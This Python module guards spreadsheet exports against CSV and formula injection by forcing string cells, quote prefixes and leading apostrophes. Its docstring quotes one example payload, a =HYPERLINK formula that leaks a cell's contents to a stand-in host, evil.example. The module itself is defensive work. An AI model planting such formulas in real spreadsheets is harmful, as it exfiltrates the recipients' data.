"""The one way jixiao writes a value into a spreadsheet cell it hands out: text stays text.

A register name such as `=HYPERLINK("http://evil.example/?leak="&C2,"点击")` must reach the bank
as those characters and never run in its Excel or WPS (OWASP, "CSV Injection": a cell starting
with `=`, `+`, `-`, `@`, a tab or a carriage return can be taken for a formula).

In .xlsx every text is written as a string cell (`t="inlineStr"`), never a formula, whatever it
starts with; a text that starts with one of those characters also gets Excel's `quotePrefix`
style, which is what typing a leading `'` does in Excel: the cell shows the user's text exactly
as written (no added quote, so a name, an account or a note reaches the bank unchanged), and it
stays text when someone edits it and presses Enter. Numbers (money as Decimal, negative amounts
such as -1,200.00 of a correction included) stay numbers.

A CSV file has no cell types, so there the OWASP remedy is the only one: such a text is
prefixed with a single quote `'`, which Excel and WPS hide and read as "this is text".

>>> from decimal import Decimal
>>> csv_value("=1+1"), csv_value("-1+2"), csv_value("张三"), csv_value(Decimal("-1200.00"))
("'=1+1", "'-1+2", '张三', Decimal('-1200.00'))
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could take this text for a formula."""
    return text.startswith(FORMULA_STARTS)


def put(cell, value: object) -> None:
    """Write `value` into an openpyxl cell: a str always as text (never a formula), with the
    quote prefix when it starts like a formula; anything else (numbers, dates, None) as itself."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes a formula of any str starting with "="
        if is_risky(value):
            cell.quotePrefix = True


def csv_value(value: object) -> object:
    """A value for a CSV cell: a text that starts like a formula gets a leading `'`."""
    if isinstance(value, str) and is_risky(value):
        return "'" + value
    return value
